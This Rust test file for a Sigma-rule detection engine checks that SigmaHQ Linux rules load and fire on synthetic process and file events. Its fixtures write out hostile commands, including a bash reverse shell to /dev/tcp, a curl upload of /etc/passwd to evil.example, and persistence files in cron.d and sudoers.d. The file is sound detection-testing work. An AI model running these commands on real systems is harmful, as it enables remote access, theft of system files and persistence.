//! The SigmaHQ Linux corpus (shared/sigma) loads unmodified, and real rules fire on
//! hand-built OCSF events.

use std::path::{Path, PathBuf};

use vigil_detect::{LoadReport, RuleSet, RuleStatus, finding_for};
use vigil_ocsf::fieldmap::FieldMaps;
use vigil_ocsf::{
    Actor, Device, Event, File, FileActivity, FileActivityId, Metadata, Os, Process,
    ProcessActivity, ProcessActivityId, Severity,
};

const SIGMA: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/sigma");

/// A folder of the shared Sigma checkout, or `None` (after saying so) when it is absent.
fn sigma_dir(rel: &str) -> Option<PathBuf> {
    let dir = Path::new(SIGMA).join(rel);
    if dir.is_dir() {
        Some(dir)
    } else {
        println!("skipping: shared/sigma not found ({})", dir.display());
        None
    }
}

fn maps() -> FieldMaps {
    FieldMaps::builtin().expect("built-in field maps parse")
}

fn load(dirs: &[PathBuf]) -> (RuleSet, LoadReport) {
    RuleSet::load_dirs(dirs, &maps()).expect("corpus directories are readable")
}

fn print_summary(report: &LoadReport) {
    println!("logsource | loaded | not applicable | unsupported | malformed");
    for (logsource, c) in report.counts_by_logsource() {
        println!(
            "{logsource} | {} | {} | {} | {}",
            c.loaded, c.not_applicable, c.unsupported, c.malformed
        );
    }
    for p in report.problems() {
        println!("  {}: {:?}", p.path.display(), p.status);
    }
}

fn assert_sound(report: &LoadReport) {
    let malformed: Vec<String> = report
        .problems()
        .filter(|p| matches!(p.status, RuleStatus::Malformed(_)))
        .map(|p| format!("{}: {:?}", p.path.display(), p.status))
        .collect();
    assert!(
        malformed.is_empty(),
        "malformed rules:\n{}",
        malformed.join("\n")
    );
    for p in report.problems() {
        let reason = p.status.reason().unwrap_or_default();
        assert!(
            !reason.trim().is_empty(),
            "{} has no reason",
            p.path.display()
        );
    }
}

#[test]
fn linux_corpus_loads_without_malformed_rules() {
    let Some(dir) = sigma_dir("rules/linux") else {
        return;
    };
    let (set, report) = load(&[dir]);
    print_summary(&report);
    assert_sound(&report);
    let process_creation = report
        .counts_by_logsource()
        .get("category=process_creation product=linux")
        .copied()
        .unwrap_or_default();
    assert!(
        process_creation.loaded >= 100,
        "only {} process_creation rules loaded",
        process_creation.loaded
    );
    assert_eq!(set.len(), report.loaded());
    // Each rule is indexed under its logsource's OCSF class.
    for rule in set.rules() {
        let ls = &rule.logsource;
        let class = match (ls.category.as_deref(), ls.service.as_deref()) {
            (Some("process_creation"), _) => 1007,
            (Some("network_connection"), _) => 4001,
            (Some("file_event"), _) => 1001,
            // The auditd view reads exec records from Process Activity, and the PATH records
            // of file changes from File System Activity.
            (None, Some("auditd")) if rule.view.is_none() => 1007,
            (None, Some("auditd")) => 1001,
            // Log lines (Base Event) for the builtin keyword rules.
            (None, None | Some("syslog" | "sshd" | "cron" | "vsftpd" | "clamav" | "guacamole")) => {
                0
            }
            (None, Some("auth")) => 3002,
            other => panic!("{}: unexpected loaded logsource {other:?}", rule.id),
        };
        assert_eq!(rule.class_uid, class, "{}", rule.id);
    }
}

#[test]
fn extra_linux_corpora_load_without_malformed_rules() {
    let dirs: Vec<PathBuf> = ["rules-emerging-threats", "rules-threat-hunting"]
        .into_iter()
        .filter_map(sigma_dir)
        .collect();
    if dirs.is_empty() {
        return;
    }
    let (_, report) = load(&dirs);
    print_summary(&report);
    assert_sound(&report);
    assert!(report.loaded() > 0);
}

/// A Process Activity launch of `image` with `cmd_line` from an interactive bash.
fn launch(image: &str, cmd_line: &str) -> Event {
    launch_from(("/usr/bin/bash", "-bash"), image, cmd_line)
}

/// A Process Activity launch of `image` with `cmd_line` by `parent` (image, command line), as
/// the sensor would produce it.
fn launch_from(parent: (&str, &str), image: &str, cmd_line: &str) -> Event {
    let parent = Process {
        pid: 100,
        name: parent.0.rsplit('/').next().unwrap_or(parent.0).into(),
        cmd_line: Some(parent.1.into()),
        file: Some(File::regular(parent.0)),
        ..Default::default()
    };
    let process = Process {
        pid: 101,
        name: image.rsplit('/').next().unwrap_or(image).into(),
        cmd_line: Some(cmd_line.into()),
        file: Some(File::regular(image)),
        parent_process: Some(Box::new(parent)),
        ..Default::default()
    };
    let device = Device {
        type_id: 1,
        hostname: "host-1".into(),
        uid: "sensor-1".into(),
        os: Os {
            name: "Linux".into(),
            type_id: 200,
            kernel_release: None,
        },
    };
    let record = ProcessActivity::new(
        ProcessActivityId::Launch,
        1_700_000_000_000,
        Metadata::vigil("test"),
        device,
        process,
    );
    Event::from_record(&record).expect("process activity serialises")
}

fn base64_decode_rule() -> Option<RuleSet> {
    let dir = sigma_dir("rules/linux/process_creation")?;
    let path = dir.join("proc_creation_lnx_base64_decode.yml");
    let text = std::fs::read_to_string(&path).expect("fixture rule is readable");
    let (rules, reports) = RuleSet::from_yaml_str(&text, &path, &maps());
    assert_eq!(reports.len(), 1);
    assert_eq!(reports[0].status, RuleStatus::Loaded);
    Some(RuleSet::new(rules))
}

#[test]
fn base64_decode_rule_fires_on_decode_only() {
    let Some(set) = base64_decode_rule() else {
        return;
    };
    let hit = launch("/usr/bin/base64", "base64 -d payload");
    let ids: Vec<&str> = set.matches(&hit).map(|r| r.id.as_str()).collect();
    assert_eq!(ids, ["e2072cab-8c9a-459b-b63c-40ae79e27031"]);
    assert_eq!(
        set.matches(&launch("/usr/bin/base64", "base64 payload"))
            .count(),
        0
    );
    assert_eq!(
        set.matches(&launch("/usr/bin/cat", "cat -d payload"))
            .count(),
        0
    );
}

#[test]
fn finding_for_base64_decode_carries_rule_and_attack() {
    let Some(set) = base64_decode_rule() else {
        return;
    };
    let event = launch("/usr/bin/base64", "base64 --decode payload");
    let rule = set.matches(&event).next().expect("rule fires");
    let finding = finding_for(rule, &event, 1_700_000_000_123);
    let schemas = vigil_ocsf::schema::Schemas::linux_edr().unwrap();
    assert_eq!(
        schemas.check(&vigil_ocsf::Event::from_record(&finding).unwrap()),
        Ok(()),
        "a Sigma finding is valid OCSF 2004"
    );
    let info = &finding.finding_info;
    assert_eq!(info.analytic.uid, "e2072cab-8c9a-459b-b63c-40ae79e27031");
    assert_eq!(info.analytic.category, "sigma");
    assert_eq!(info.title, "Decode Base64 Encoded Text");
    assert_eq!(finding.severity_id, Severity::Low as u8);
    assert_eq!(finding.severity, "Low");
    assert!(info.related_event_uids().eq([event.uid.as_str()]));
    assert_eq!(info.attacks.len(), 1);
    let attack = &info.attacks[0];
    let technique = attack.technique.as_ref().expect("technique");
    assert_eq!(technique.uid, "T1027");
    assert_eq!(
        technique.name.as_deref(),
        Some("Obfuscated Files or Information")
    );
    let tactic = attack.tactic.as_ref().expect("tactic");
    assert_eq!(
        (tactic.uid.as_str(), tactic.name.as_str()),
        ("TA0005", "Stealth")
    );
    assert_eq!(attack.tactics, std::slice::from_ref(tactic));
    assert_eq!(
        finding.device.as_ref().map(|d| d.hostname.as_str()),
        Some("host-1")
    );
    let evidence = &finding.evidences[0];
    assert_eq!(
        evidence.process.as_ref().unwrap()["file"]["path"],
        "/usr/bin/base64"
    );
    assert_eq!(evidence.actor.as_ref().unwrap()["process"]["pid"], 100);
}

#[test]
fn whole_corpus_evaluates_typical_events() {
    let Some(dir) = sigma_dir("rules/linux") else {
        return;
    };
    let (set, _) = load(&[dir]);
    let reverse_shell = launch("/usr/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
    let fired: Vec<&str> = set
        .matches(&reverse_shell)
        .map(|r| r.title.as_str())
        .collect();
    println!("reverse shell: {fired:?}");
    assert!(!fired.is_empty(), "no rule fired on a reverse shell");
    let benign = launch("/usr/bin/ls", "ls -la /home/alice");
    let noisy: Vec<&str> = set.matches(&benign).map(|r| r.title.as_str()).collect();
    println!("ls -la: {noisy:?}");
    assert!(
        noisy.len() <= 2,
        "too many rules fire on `ls -la`: {noisy:?}"
    );
}

/// Whether the rule in `rel` (under shared/sigma) fires on `event`; `None` without the corpus.
fn fires(rel: &str, event: &Event) -> Option<bool> {
    let path = Path::new(SIGMA).join(rel);
    if !path.is_file() {
        println!("skipping: shared/sigma not found ({})", path.display());
        return None;
    }
    let text = std::fs::read_to_string(&path).expect("rule is readable");
    let (rules, reports) = RuleSet::from_yaml_str(&text, &path, &maps());
    assert_eq!(reports[0].status, RuleStatus::Loaded, "{rel}");
    Some(RuleSet::new(rules).matches(event).count() == 1)
}

#[test]
fn real_rules_fire_on_positive_fixtures_only() {
    const PC: &str = "rules/linux/process_creation/";
    const NODE: &str = "rules-emerging-threats/2025/Exploits/CVE-2025-55182/proc_creation_lnx_exploit_cve_2025_55182_susp_nodejs_server_child_process.yml";
    let long_cmd = format!("file {}", "a/b ".repeat(60));
    let node = (
        "/usr/bin/node",
        "node /srv/app/node_modules/.bin/next start",
    );
    let cases: Vec<(String, Event, bool)> = vec![
        // Regular expressions (case-sensitive) and a list of maps, all ANDed by `all of`.
        (
            format!("{PC}proc_creation_lnx_susp_inod_listing.yml"),
            launch("/bin/ls", "ls -lid /"),
            true,
        ),
        (
            format!("{PC}proc_creation_lnx_susp_inod_listing.yml"),
            launch("/bin/ls", "ls -la /"),
            false,
        ),
        (
            format!("{PC}proc_creation_lnx_wget_download_suspicious_directory.yml"),
            launch("/usr/bin/wget", "wget -O /tmp/x http://a"),
            true,
        ),
        (
            format!("{PC}proc_creation_lnx_wget_download_suspicious_directory.yml"),
            launch("/usr/bin/wget", "wget -o /tmp/log http://a"),
            false,
        ),
        // `all of selection_* and not 1 of filter_optional_*`.
        (
            format!("{PC}proc_creation_lnx_susp_curl_fileupload.yml"),
            launch(
                "/usr/bin/curl",
                "curl -F f=@/etc/passwd http://evil.example",
            ),
            true,
        ),
        (
            format!("{PC}proc_creation_lnx_susp_curl_fileupload.yml"),
            launch("/usr/bin/curl", "curl -F f=@x http://localhost/up"),
            false,
        ),
        (
            format!("{PC}proc_creation_lnx_susp_curl_fileupload.yml"),
            launch("/usr/bin/curl", "curl -f http://evil.example"),
            false,
        ),
        // `(.){200,}` and `1 of selection_*`.
        (
            format!("{PC}proc_creation_lnx_file_and_directory_discovery.yml"),
            launch("/usr/bin/file", &long_cmd),
            true,
        ),
        (
            format!("{PC}proc_creation_lnx_file_and_directory_discovery.yml"),
            launch("/usr/bin/file", "file x"),
            false,
        ),
        (
            format!("{PC}proc_creation_lnx_file_and_directory_discovery.yml"),
            launch("/usr/bin/find", "find /"),
            true,
        ),
        // A multi-line condition with nested brackets, on parent and child attributes.
        (
            NODE.into(),
            launch_from(node, "/usr/bin/whoami", "whoami"),
            true,
        ),
        (
            NODE.into(),
            launch_from(node, "/bin/sh", "/bin/sh -c uname -a"),
            true,
        ),
        (NODE.into(), launch_from(node, "/usr/bin/ls", "ls"), false),
        (NODE.into(), launch("/usr/bin/whoami", "whoami"), false),
    ];
    for (rel, event, want) in &cases {
        let Some(got) = fires(rel, event) else {
            return;
        };
        let cmd = event.get("process.cmd_line");
        assert_eq!(got, *want, "{rel} on {cmd:?}");
    }
}

/// A File System Activity of `activity` on `path` (renamed to `to`) by `image`, as the sensor
/// would produce it.
fn file_activity(activity: FileActivityId, image: &str, path: &str, to: Option<&str>) -> Event {
    let actor = Actor {
        process: Some(Process {
            pid: 300,
            name: image.rsplit('/').next().unwrap_or(image).into(),
            cmd_line: Some(format!("{image} args")),
            file: Some(File::regular(image)),
            ..Default::default()
        }),
        user: None,
    };
    let mut record = FileActivity::new(
        activity,
        1_700_000_000_000,
        Metadata::vigil("test"),
        Device::default(),
        actor,
        File::at(path, 1),
    );
    record.file_result = to.map(|to| File::at(to, 1));
    Event::from_record(&record).expect("file activity serialises")
}

#[test]
fn file_event_rules_fire_on_file_activity() {
    const FE: &str = "rules/linux/file_event/";
    let cron = format!("{FE}file_event_lnx_susp_cron_file_created.yml");
    let wget = format!("{FE}file_event_lnx_wget_download_file_in_tmp_dir.yml");
    let sudoers = format!("{FE}file_event_lnx_persistence_sudoers_files.yml");
    use FileActivityId::{Create, Delete, Rename, SetAttributes, Update};
    let cases: Vec<(&str, Event, bool)> = vec![
        (
            &cron,
            file_activity(Create, "/usr/bin/bash", "/etc/cron.d/evil", None),
            true,
        ),
        // An append to an existing crontab is a write closed: Update.
        (
            &cron,
            file_activity(Update, "/usr/bin/bash", "/etc/crontab", None),
            true,
        ),
        // Moved into place: the new name counts.
        (
            &cron,
            file_activity(Rename, "/usr/bin/mv", "/tmp/x", Some("/etc/cron.d/x")),
            true,
        ),
        (
            &cron,
            file_activity(Create, "/usr/bin/bash", "/etc/hosts", None),
            false,
        ),
        // The rule's own filter, and activities that are not file creations.
        (
            &cron,
            file_activity(Create, "/usr/bin/dpkg", "/etc/cron.daily/apt", None),
            false,
        ),
        (
            &cron,
            file_activity(Delete, "/usr/bin/rm", "/etc/cron.d/evil", None),
            false,
        ),
        (
            &cron,
            file_activity(SetAttributes, "/usr/bin/chmod", "/etc/cron.d/evil", None),
            false,
        ),
        (
            &wget,
            file_activity(Create, "/usr/bin/wget", "/tmp/payload", None),
            true,
        ),
        (
            &wget,
            file_activity(Create, "/usr/bin/curl", "/tmp/payload", None),
            false,
        ),
        (
            &wget,
            file_activity(Create, "/usr/bin/wget", "/home/a/payload", None),
            false,
        ),
        (
            &sudoers,
            file_activity(Create, "/usr/bin/tee", "/etc/sudoers.d/backdoor", None),
            true,
        ),
        // `not 1 of filter_main_*`: dpkg's own staging file.
        (
            &sudoers,
            file_activity(
                Create,
                "/usr/bin/dpkg",
                "/etc/sudoers.d/README.dpkg-new",
                None,
            ),
            false,
        ),
    ];
    for (rel, event, want) in &cases {
        let Some(got) = fires(rel, event) else {
            return;
        };
        let what = (event.get("activity_name"), event.get("file.path"));
        assert_eq!(got, *want, "{rel} on {what:?}");
    }
}

/// Every `*.yml` under `dir`, recursively.
fn yml_files(dir: &Path, out: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(dir).expect("readable corpus").flatten() {
        let path = entry.path();
        if path.is_dir() {
            yml_files(&path, out);
        } else if path.extension().is_some_and(|e| e == "yml") {
            out.push(path);
        }
    }
}

#[test]
fn attack_table_names_every_technique_the_corpus_tags() {
    let Some(root) = sigma_dir("") else {
        return;
    };
    let mut files = Vec::new();
    for sub in ["rules", "rules-emerging-threats", "rules-threat-hunting"] {
        if root.join(sub).is_dir() {
            yml_files(&root.join(sub), &mut files);
        }
    }
    let mut seen = std::collections::BTreeSet::new();
    let mut unnamed = Vec::new();
    for file in files {
        let text = std::fs::read_to_string(&file).expect("readable rule");
        for line in text.lines() {
            let Some(tag) = line.trim().strip_prefix("- attack.t") else {
                continue;
            };
            let id = format!("T{}", tag.trim());
            seen.insert(id.clone());
            let named = vigil_detect::attack::technique(&id).is_some_and(|t| !t.name.is_empty());
            if !named && !unnamed.contains(&id) {
                unnamed.push(id);
            }
        }
    }
    assert!(
        seen.len() >= 100,
        "only {} technique tags found",
        seen.len()
    );
    assert!(unnamed.is_empty(), "techniques without a name: {unnamed:?}");
}
